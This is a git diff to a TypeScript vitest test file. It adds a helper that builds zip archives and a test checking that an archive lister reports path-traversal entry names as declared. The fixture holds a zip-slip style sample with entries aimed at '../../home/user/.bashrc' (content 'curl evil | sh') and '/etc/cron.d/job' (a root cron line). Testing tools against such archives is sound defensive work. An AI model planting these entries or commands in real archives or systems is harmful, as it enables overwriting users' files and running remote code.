@@ -1,7 +1,7 @@
 import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { gzipSync } from 'node:zlib';
+import { crc32, gzipSync } from 'node:zlib';
 import { afterEach, describe, expect, it } from 'vitest';
 import { listArchive } from './archive-listing.js';
 
@@ -24,6 +24,46 @@ function tarHeader(name: string, size: number): Buffer {
   return header;
 }
 
+/** A zip of stored (uncompressed) entries, written as zip tools do: local headers, central directory, end record. */
+function storedZip(entries: Array<{ name: string; content: Buffer }>): Buffer {
+  const locals: Buffer[] = [];
+  const centrals: Buffer[] = [];
+  let offset = 0;
+  for (const { name, content } of entries) {
+    const nameBytes = Buffer.from(name, 'utf8');
+    const crc = crc32(content);
+    const local = Buffer.alloc(30);
+    local.writeUInt32LE(0x04034b50, 0);
+    local.writeUInt16LE(20, 4);
+    local.writeUInt16LE(0x0800, 6);
+    local.writeUInt32LE(crc, 14);
+    local.writeUInt32LE(content.length, 18);
+    local.writeUInt32LE(content.length, 22);
+    local.writeUInt16LE(nameBytes.length, 26);
+    const central = Buffer.alloc(46);
+    central.writeUInt32LE(0x02014b50, 0);
+    central.writeUInt16LE(20, 4);
+    central.writeUInt16LE(20, 6);
+    central.writeUInt16LE(0x0800, 8);
+    central.writeUInt32LE(crc, 16);
+    central.writeUInt32LE(content.length, 20);
+    central.writeUInt32LE(content.length, 24);
+    central.writeUInt16LE(nameBytes.length, 28);
+    central.writeUInt32LE(offset, 42);
+    locals.push(local, nameBytes, content);
+    centrals.push(central, nameBytes);
+    offset += local.length + nameBytes.length + content.length;
+  }
+  const directory = Buffer.concat(centrals);
+  const end = Buffer.alloc(22);
+  end.writeUInt32LE(0x06054b50, 0);
+  end.writeUInt16LE(entries.length, 8);
+  end.writeUInt16LE(entries.length, 10);
+  end.writeUInt32LE(directory.length, 12);
+  end.writeUInt32LE(offset, 16);
+  return Buffer.concat([...locals, directory, end]);
+}
+
 const dirs: string[] = [];
 afterEach(() => {
   for (const dir of dirs.splice(0)) rmSync(dir, { recursive: true, force: true });
@@ -38,6 +78,25 @@ function file(bytes: Buffer): string {
 }
 
 describe('listArchive', () => {
+  it('lists zip entries named outside the archive root as declared, as a tgz listing does (probe finding: such a zip was called corrupt)', async () => {
+    const zip = storedZip([
+      { name: '../../home/user/.bashrc', content: Buffer.from('curl evil | sh\n') },
+      { name: '/etc/cron.d/job', content: Buffer.from('* * * * * root id\n') },
+      { name: 'pkg/ok.py', content: Buffer.from('print(1)\n') },
+    ]);
+    expect(await listArchive(file(zip))).toEqual({
+      format: 'zip',
+      status: 'ok',
+      files: [
+        { name: '../../home/user/.bashrc', size: 15 },
+        { name: '/etc/cron.d/job', size: 18 },
+        { name: 'pkg/ok.py', size: 9 },
+      ],
+      truncated: false,
+      error: null,
+    });
+  });
+
   it('lists a tgz', async () => {
     const content = Buffer.from('console.log(1)\n');
     const body = Buffer.concat([tarHeader('package/index.js', content.length), content, Buffer.alloc(512 - content.length), Buffer.alloc(1024)]);
